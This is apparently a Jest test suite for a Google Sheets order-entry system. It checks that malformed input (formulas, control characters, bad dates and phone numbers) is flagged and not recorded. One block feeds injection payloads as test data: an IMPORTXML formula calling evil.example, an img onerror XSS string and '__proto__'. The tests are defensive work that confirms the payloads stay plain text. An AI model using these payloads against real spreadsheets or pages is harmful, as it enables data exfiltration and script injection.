import { describe, expect, test } from '@jest/globals';
import { brokenBooks } from '../../src/cli/census.ts';
import { newOrders, orders, todo } from '../../src/orders/tables.ts';
import { columnIds } from '../../src/table/table.ts';
import {
  agent,
  beatAfter,
  deskCell,
  first,
  journal,
  ledgerRow,
  live,
  owner,
  refusal,
  rowsOf,
  scanned,
  standingShop,
  stateOf,
  step,
  submit,
  typeCells,
  typeRaw,
} from './given.ts';

const here = standingShop();

describe('[ORD-6] odd cells typed on New orders: told at once, nothing sealed, nothing lost', () => {
  test.each([
    ['a formula', 'quantity', '=1+1', '数量：请直接填写内容，不要填公式'],
    ['a line break', 'address', '上海\n浦东', '地址：请写成一行'],
    ['a control character', 'customer', '王\u0007芳', '客户：含有不可见的控制字符，请删去'],
    ['too many characters', 'goods', '长'.repeat(501), '商品：太长：501 个字，最多 500 个'],
    ['a right-to-left mark', 'customer', '王\u202e芳', '客户：含有看不见的方向符号或零宽字符，请删去'],
    ['a word that is no choice', 'channel', '闲鱼', '渠道：“闲鱼”不在选项中'],
    ['three decimals', 'due', '1.005', '应付金额：金额最多两位小数'],
    ['a date that is none', 'orderedAt', '2026-02-31 10:00', '下单时间：不是日期时间（如 2026-03-02 10:05）'],
    ['a telephone number that is none', 'phone', '12345', '电话：不是有效的电话号码'],
    [
      'an order number that a spreadsheet shortened',
      'orderNo',
      '1.23457E+18',
      '订单号：数字超过 15 位，后面的位数已经丢失；请把本格设为文本后重新填写',
    ],
    ['a negative amount', 'paid', '-1', '实付金额：不能小于 0.00'],
  ] as const)('%s', (_, id, typed, words) => {
    const { shop } = here;
    typeRaw(shop, agent, newOrders, 2, id, typed);
    expect(deskCell(shop, newOrders, 2, 'problem')).toBe(words);
    const kept = deskCell(shop, newOrders, 2, id);
    const { [id]: __, ...others } = { ...rowToType() };
    typeCells(shop, agent, { table: newOrders, line: 2, cells: { ...others, action: 'submit' } });
    live(shop, 6);
    expect(deskCell(shop, newOrders, 2, 'result')).toBe('未受理：请先改正“问题”列指出的内容');
    expect(deskCell(shop, newOrders, 2, 'problem')).toContain(words);
    expect(deskCell(shop, newOrders, 2, id)).toEqual(kept);
    expect(rowsOf(shop, orders)).toEqual([]);
  });

  test('[ORD-6] a telephone number is sealed in its one form, however it was typed', () => {
    const { shop } = here;
    submit(shop, first, { phone: '+86 138-1234-5678\u202c' });
    expect(ledgerRow(shop, first)).toMatchObject({ phone: '13812345678' });
  });

  test('60,000 characters are refused by Google itself', () => {
    const { shop } = here;
    expect(refusal(() => typeRaw(shop, agent, newOrders, 2, 'goods', '长'.repeat(60_000)))).toContain('50000 characters in a single cell');
    expect(rowsOf(shop, newOrders)).toEqual([]);
  });

  test('a number of 19 digits in a column that was formatted as a number', () => {
    const { shop } = here;
    const format = `function main() { Sheets.Spreadsheets.batchUpdate({ requests: [{ repeatCell: {
      range: { sheetId: ${String(newOrders.sheetId)}, startColumnIndex: 0, endColumnIndex: 1 },
      cell: { userEnteredFormat: { numberFormat: { type: 'NUMBER', pattern: '0' } } }, fields: 'userEnteredFormat.numberFormat' } }] }, '${shop.books.order}'); }`;
    shop.host.addProject({ id: 'by-hand', owner, code: format, scopes: ['spreadsheets'], container: null, advanced: ['Sheets'] });
    expect(shop.host.run('by-hand', 'main').error).toBeNull();
    typeRaw(shop, agent, newOrders, 2, 'orderNo', '1234567890123456789');
    expect(deskCell(shop, newOrders, 2, 'problem')).toBe('订单号：数字超过 15 位，后面的位数已经丢失；请把本格设为文本后重新填写');
    submit(shop, '1234567890123456789');
    expect(rowsOf(shop, orders)).toEqual([]);
  });

  test('a whole paste with one bad row: the others are sealed', () => {
    const { shop } = here;
    const ids = columnIds(newOrders).slice(0, 15);
    const row = (orderNo: string, phone: string) => {
      const cells: Record<string, unknown> = {
        ...rowToType(),
        orderNo,
        phone,
        channel: '淘宝',
        action: '提交',
        due: 198,
        paid: 198,
        orderedAt: '2026-03-02 09:00',
        paidAt: '2026-03-02 09:01',
      };
      return ids.map((id) => (cells[id] ?? null) as string | number | null);
    };
    shop.host
      .person(agent)
      .edit(shop.books.order, newOrders.sheetId, 1, 0, [row('1', '13800000001'), row('2', '1'), row('3', '13800000003')]);
    scanned(shop, { table: newOrders, line: 2 });
    expect(rowsOf(shop, orders).map(({ cells }) => cells['orderNo'])).toEqual(['1', '3']);
    expect(deskCell(shop, newOrders, 3, 'problem')).toBe('电话：不是有效的电话号码');
  });
});

function rowToType() {
  return {
    orderNo: first,
    channel: 'taobao',
    customer: '陈一',
    phone: '13800000001',
    address: '上海',
    goods: '茶',
    quantity: 2,
    due: 19_800,
    paid: 0,
    orderedAt: Date.parse('2026-03-02T09:00:00+08:00'),
    by: '客服',
  };
}

describe('text that would do something elsewhere stays text', () => {
  test.each([
    ['=IMPORTXML("http://evil.example","//a")', '=IMPORTXML("http://evil.example","//a")'],
    ['+1', '+1'],
    ['@x', '@x'],
    ['<img src=x onerror=alert(1)>', '<img src=x onerror=alert(1)>'],
    ["''", "'"],
    ["'=1+1", '=1+1'],
    ['{name}', '{name}'],
    ['__proto__', '__proto__'],
  ])('customer %j, in ledger, journal, to-do and letter', (typed, kept) => {
    const { shop } = here;
    submit(shop, first, { customer: typed });
    beatAfter(shop, 6);
    expect(ledgerRow(shop, first)?.['customer']).toBe(kept);
    expect(deskCell(shop, todo, 2, 'customer')).toBe(kept);
    expect((JSON.parse(String(journal(shop)[0]?.after)) as { customer: string }).customer).toBe(kept);
    expect(JSON.stringify(shop.host.sheets(shop.books.order))).not.toContain('"formula"');
    const [letter] = shop.host.mails();
    expect(letter?.body).toContain(kept);
    expect(letter?.htmlBody).not.toContain('<img');
    expect(letter?.htmlBody).toContain(kept.replace(/[&<>"']/g, (char) => `&#${String(char.charCodeAt(0))};`));
    expect(brokenBooks(shop)).toEqual([]);
  });

  test('a remark with a formula and a line break', () => {
    const { shop } = here;
    submit(shop, first);
    step(shop, first, 'remark', { remark: '=1+1\n<b>' });
    expect(ledgerRow(shop, first)?.['remarks']).toMatch(/\] =1\+1 <b>$/);
    expect(stateOf(shop, first)).toBe('accepted');
  });
});
